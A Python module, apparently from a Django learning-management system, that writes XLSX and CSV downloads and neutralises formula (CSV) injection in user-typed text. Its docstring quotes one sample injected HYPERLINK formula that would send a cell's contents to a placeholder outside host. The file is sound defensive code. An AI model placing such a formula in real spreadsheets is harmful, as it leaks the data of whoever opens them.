"""Spreadsheets out: every XLSX and CSV the LMS writes goes through this module.

A download is built the same way everywhere: a header row, real numbers and dates in the cells (not
text), UTF-8 with a BOM for CSV (Excel then opens Turkmen and Russian letters), and no text that a
spreadsheet would run as a formula. Names, topics and units are typed by users; a cell such as
``=HYPERLINK("http://x.example/?"&A1,"open")`` would otherwise be live when a manager opens the file
(OWASP "CSV injection"). So text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading single quote, in XLSX as in CSV (a workbook saved again as CSV stays safe), and XLSX text
cells are written with the string data type. Numbers, dates and booleans stay what they are: a negative
number is a number, not text.

Workbooks are written in openpyxl's write-only mode (rows streamed to the file, low memory for large
sheets). The caller describes each sheet with a ``Sheet``; ``frame_sheet`` turns a pandas DataFrame into one.
"""

from __future__ import annotations

import csv
import datetime
import io
import math
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.functional import Promise

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm:ss"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_TITLE_CHARS = 31  # Excel's limit for a sheet name
README_TITLE = "Read me"
README_WIDTHS = (28, 28, 100)


@dataclass
class Sheet:
    """One table. ``header`` is the first row (None: no header row, e.g. a "Read me" sheet); ``rows`` are
    sequences of plain values; ``widths`` are column widths from column A; ``column_formats`` maps a
    0-based column to a number format for the whole column (so cells typed in later take it too)."""

    title: str
    header: Sequence | None
    rows: Iterable[Sequence] = ()
    widths: Sequence[float | None] = ()
    column_formats: dict[int, str] = field(default_factory=dict)
    bold_header: bool = True
    freeze_header: bool = True


def neutralise(text: str) -> str:
    """Text that a spreadsheet would read as a formula, with a single quote in front (OWASP)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def plain(value):
    """A cell value as a plain Python value: None, bool, int, float, Decimal, date, datetime or str.

    NaN, NaT and pandas' NA become None; numpy scalars and pandas timestamps their Python equivalents;
    lazy translations and any other object their text. Text is not neutralised here (see ``text_cell``).
    """
    if value is None or isinstance(value, (bool, int, Decimal, str)):
        return value
    if isinstance(value, float):  # numpy's float64 too: as a Python float
        return None if math.isnan(value) else float(value)
    module = type(value).__module__
    if module.startswith("pandas"):
        import pandas as pd

        if pd.isna(value):
            return None
        if isinstance(value, pd.Timestamp):
            return value.to_pydatetime()
    if module.startswith("numpy") and hasattr(value, "item"):
        return plain(value.item())
    if isinstance(value, (datetime.date, datetime.datetime)):
        return value
    if isinstance(value, Promise):
        return str(value)
    return str(value)


def text_cell(value):
    """``plain(value)`` with text neutralised: what a cell of a download holds."""
    value = plain(value)
    return neutralise(value) if isinstance(value, str) else value


# --------------------------------------------------------------------------------------------------
# XLSX
# --------------------------------------------------------------------------------------------------


def _xlsx_fill(cell, value, *, bold: bool = False):
    """Put ``value`` in ``cell``: text neutralised and typed as a string, dates with a date format."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    value = text_cell(value)
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        value = value.replace(tzinfo=None)  # Excel has no time zones: keep the wall time
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters openpyxl refuses
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # explicitly a string, never a formula
    elif isinstance(value, datetime.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell.number_format = DATE_FORMAT
    if bold:
        cell.font = Font(bold=True)
    return cell


def _xlsx_rows(spec: Sheet):
    """(values, bold) per row of the sheet, the header first."""
    if spec.header is not None:
        yield spec.header, spec.bold_header
    for row in spec.rows:
        yield row, False


def xlsx_bytes(sheets: Iterable[Sheet], *, write_only: bool = True) -> bytes:
    """A workbook with the sheets in order.

    By default in openpyxl's write-only mode: rows go straight to the file, so a large sheet takes little
    memory. ``write_only=False`` builds the workbook in memory first; openpyxl then records each sheet's
    dimensions, so a reader in read-only mode gets rows of equal length (a template with blank lines).
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=write_only)
    if not write_only:
        workbook.remove(workbook.active)
    for spec in sheets:
        sheet = workbook.create_sheet(str(spec.title)[:MAX_TITLE_CHARS])
        for index, width in enumerate(spec.widths, start=1):
            if width:
                sheet.column_dimensions[get_column_letter(index)].width = width
        for index, number_format in spec.column_formats.items():
            sheet.column_dimensions[get_column_letter(index + 1)].number_format = number_format
        if spec.header is not None and spec.freeze_header:
            sheet.freeze_panes = "A2"
        for number, (values, bold) in enumerate(_xlsx_rows(spec), start=1):
            if write_only:
                sheet.append([_xlsx_fill(WriteOnlyCell(sheet), value, bold=bold) for value in values])
            else:
                for column, value in enumerate(values, start=1):
                    _xlsx_fill(sheet.cell(row=number, column=column), value, bold=bold)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def readme_sheet(rows: Iterable[Sequence], *, title: str = README_TITLE) -> Sheet:
    """A "Read me" sheet: title lines, then (sheet, column, definition) rows; every cell as text."""
    return Sheet(
        title=title,
        header=None,
        rows=[[None if value is None else str(value) for value in row] for row in rows],
        widths=README_WIDTHS,
    )


def xlsx_response(sheets: Iterable[Sheet], *, filename: str) -> HttpResponse:
    """The sheets as an XLSX attachment called ``filename``."""
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# --------------------------------------------------------------------------------------------------
# CSV
# --------------------------------------------------------------------------------------------------


def _csv_value(value):
    value = text_cell(value)
    if value is None:
        return ""
    if isinstance(value, (datetime.date, datetime.datetime)):
        return str(value)  # ISO 8601 (a space between date and time, as pandas writes it)
    return value


def csv_write(out, sheet: Sheet) -> None:
    """Write ``sheet`` (its header, then its rows) to the text stream ``out`` as CSV."""
    writer = csv.writer(out)
    if sheet.header is not None:
        writer.writerow([_csv_value(value) for value in sheet.header])
    for row in sheet.rows:
        writer.writerow([_csv_value(value) for value in row])


def csv_text(sheet: Sheet) -> str:
    buffer = io.StringIO()
    csv_write(buffer, sheet)
    return buffer.getvalue()


class _Line:
    """A file-like object that hands back what ``csv.writer`` writes (one row at a time)."""

    def write(self, text):
        return text


def csv_lines(sheet: Sheet):
    """The CSV text of ``sheet`` row by row, after a BOM: a large table never sits in memory whole."""
    writer = csv.writer(_Line())
    yield "\ufeff"
    if sheet.header is not None:
        yield writer.writerow([_csv_value(value) for value in sheet.header])
    for row in sheet.rows:
        yield writer.writerow([_csv_value(value) for value in row])


def csv_response(sheet: Sheet, *, filename: str, stream: bool = False) -> HttpResponse | StreamingHttpResponse:
    """One table as a CSV attachment, UTF-8 with a BOM. ``stream``: sent row by row as it is written
    (a ``StreamingHttpResponse``: read it with ``streaming_content``), for tables that may be large."""
    if stream:
        response = StreamingHttpResponse(csv_lines(sheet), content_type=CSV_CONTENT_TYPE)
        response["Content-Disposition"] = f'attachment; filename="{filename}"'
        return response
    response = HttpResponse(content_type=CSV_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    csv_write(response, sheet)
    return response


# --------------------------------------------------------------------------------------------------
# pandas
# --------------------------------------------------------------------------------------------------


def frame_sheet(title: str, frame) -> Sheet:
    """A pandas DataFrame as a sheet: its column names as the header, a row per record, no index."""
    return Sheet(
        title=title,
        header=[str(column) for column in frame.columns],
        rows=frame.itertuples(index=False, name=None),
        freeze_header=False,
    )
